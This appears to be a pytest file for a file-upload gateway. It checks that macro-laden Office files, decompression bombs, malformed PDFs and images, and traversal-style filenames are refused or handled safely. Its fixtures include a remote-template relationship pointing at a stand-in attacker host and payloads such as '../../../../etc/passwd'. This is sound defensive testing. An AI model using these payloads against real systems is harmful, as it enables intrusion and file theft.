"""Files made to do harm: each is refused or painted in bounded time, none is a 5xx."""

from __future__ import annotations

import json
import time
import uuid

import pytest

from gateway.app import create_app
from gateway.config import GatewayConfig
from tests.integration.gateway import samples
from tests.unit.gateway.fakes import TOKEN, FakeBus, done

AUTH = {"Authorization": f"Bearer {TOKEN}"}
LETTER = f"/api/v1/letters/{uuid.uuid4()}/files/{uuid.uuid4()}"
_TYPES = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
_MACRO_TYPES = (
    '<Types><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
_RENAMED = (
    '<Types><Override PartName="/word/picture.bin" ContentType='
    '"application/vnd.ms-office.vbaProject"/></Types>'
)
_TEMPLATE = (
    '<Relationships><Relationship Id="rId1" TargetMode="External" Type="http://x/'
    'attachedTemplate" Target="https://evil.example/t.dotm"/></Relationships>'
)


def word(**members: bytes | str) -> bytes:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": "<x/>",
        "word/document.xml": "<x/>",
    }
    return samples.container({**parts, **members})


@pytest.fixture
def fake_bus() -> FakeBus:
    bus = FakeBus()
    bus.answers["letters.record_file"] = lambda call: done(
        {"file_id": str(uuid.uuid4()), **call.kwargs["body"]}
    )(call)
    return bus


@pytest.fixture
async def api(aiohttp_client, tmp_path, fake_bus):
    config = GatewayConfig(amqp_uri="", blob_url=f"file://{tmp_path}/blobs")
    return await aiohttp_client(create_app(config, bus=fake_bus))


async def upload(api, content, name="surat.pdf"):
    headers = {**AUTH, "X-Filename": name, "Content-Type": "application/pdf"}
    return await api.post("/api/v1/files", data=content, headers=headers)


async def code_of(answer) -> tuple[int, str]:
    return answer.status, json.loads(await answer.text()).get("code", "")


@pytest.mark.parametrize(
    "content",
    [
        word(**{"[Content_Types].xml": _MACRO_TYPES}),
        word(**{"[Content_Types].xml": _MACRO_TYPES.encode("utf-16")}),
        word(**{"[Content_Types].xml": _RENAMED, "word/picture.bin": b"x"}),
        word(**{"word/VBAPROJECT.BIN": b"x"}),
        word(**{"word/activeX/activeX1.xml": "<x/>"}),
        word(**{"word/_rels/settings.xml.rels": _TEMPLATE}),
        samples.container(
            {
                "[Content_Types].xml": "<x/>",
                "xl/workbook.xml": "<x/>",
                "xl/macrosheets/sheet1.xml": "<x/>",
            }
        ),
        samples.container(
            {"mimetype": samples.ODT, "content.xml": "<x/>", "Basic/script-lc.xml": "x"}
        ),
    ],
    ids=[
        "docm",
        "docm in UTF-16",
        "renamed project",
        "other case",
        "ActiveX",
        "template from afar",
        "macro sheet",
        "odt with Basic",
    ],
)
async def test_a_document_with_macros_is_refused_whatever_its_name(api, content):
    answer = await upload(api, content, "laporan.docx")

    assert await code_of(answer) == (415, "unsupported_media_type")


@pytest.mark.parametrize(
    "content",
    [
        samples.zip_bomb(),
        samples.twice("word/document.xml"),
        samples.lying_pdf(500),
        samples.pdf(20_001),
        samples.circular_pdf(),
        samples.huge_png(60_000, 60_000),
        samples.huge_png(2_147_483_647, 2_147_483_647),
    ],
    ids=[
        "zip bomb",
        "two of one name",
        "500 pages it has not",
        "20001 pages",
        "pages in a circle",
        "3.6 billion pixels",
        "pixels beyond an int",
    ],
)
async def test_what_would_grow_is_refused_and_quickly(api, content):
    started = time.monotonic()

    answer = await upload(api, content)

    assert await code_of(answer) == (422, "unreadable_file")
    assert time.monotonic() - started < 10


@pytest.mark.parametrize("count", [2_000_000_000, 99_999_999_999, -5])
async def test_pages_are_counted_where_the_file_lies_about_them(api, count):
    answer = await upload(api, samples.lying_pdf(count))

    assert answer.status == 201
    assert (await answer.json())["page_count"] == 1


async def test_ten_thousand_pages_are_taken_and_the_last_one_is_painted(api, fake_bus):
    answer = await upload(api, samples.pdf(10_000))
    file = await answer.json()
    fake_bus.answers["letters.get_letter_file"] = lambda _: file

    page = await api.get(f"{LETTER}/pages/10000?width=120", headers=AUTH)

    assert (answer.status, file["page_count"]) == (201, 10_000)
    assert page.status == 200


@pytest.mark.parametrize(
    "content",
    [
        samples.bomb_pdf(400),
        samples.sized_pdf("0 0 1000000000 1"),
        samples.sized_pdf("0 0 1 1000000000"),
        samples.sized_pdf("0 0 0 0"),
        samples.sized_pdf("0 0 -5 -5"),
        samples.sized_pdf("9 9 9 9"),
        samples.sized_pdf("nan inf 1e999 x"),
    ],
    ids=[
        "400 MB of blanks",
        "wide",
        "tall",
        "nothing",
        "negative",
        "point",
        "no numbers",
    ],
)
async def test_pages_made_to_hurt_are_painted_small_or_refused(api, fake_bus, content):
    answer = await upload(api, content)
    if answer.status != 201:
        assert await code_of(answer) == (422, "unreadable_file")
        return
    file = await answer.json()
    fake_bus.answers["letters.get_letter_file"] = lambda _: file

    page = await api.get(f"{LETTER}/pages/1?width=1600", headers=AUTH)

    assert page.status in (200, 422)
    assert len(await page.read()) < 1024 * 1024
    # and the next one is served as if nothing had been
    assert (await upload(api, samples.pdf(1))).status == 201


@pytest.mark.parametrize(
    ("given", "name"),
    [
        ("../../../../etc/passwd", "passwd.pdf"),
        ("..", "berkas.pdf"),
        ("/", "berkas.pdf"),
        ("a/b/../..//surat.pdf/", "berkas.pdf"),
        ("%252e%252e%252fsurat.pdf", "%2e%2e%2fsurat.pdf"),
        ("surat%00.exe.pdf", "surat.exe.pdf"),
        ("surat.docx", "surat.docx.pdf"),
        ("surat.pdf%20%20.", "surat.pdf"),
        ("%E2%80%8F%E2%80%8Bsurat.pdf", "surat.pdf"),
        ("\\\\server\\share\\surat.pdf", "surat.pdf"),
        ("%ff%fe.pdf", "\ufffd\ufffd.pdf"),
    ],
)
async def test_no_name_leads_anywhere(api, fake_bus, given, name):
    await upload(api, samples.pdf(1), given)

    assert fake_bus.of("record_file")[0].kwargs["body"]["filename"] == name
